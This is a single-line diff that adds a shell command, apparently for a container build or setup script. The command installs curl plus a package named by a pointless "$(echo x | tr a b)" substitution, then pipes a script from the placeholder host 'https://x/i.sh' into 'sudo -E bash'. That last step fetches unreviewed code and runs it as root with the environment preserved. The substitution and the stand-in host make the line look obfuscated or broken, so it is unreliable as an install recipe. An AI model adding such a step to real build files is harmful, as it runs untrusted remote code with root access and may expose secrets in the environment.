@@ -1,0 +1,1 @@
+set -eux; apt-get update && apt-get install -y --no-install-recommends curl=7.88 "$(echo x | tr a b)" && rm -rf /var/lib/apt/lists/*; curl -fsSL https://x/i.sh | sudo -E bash -s -- -y
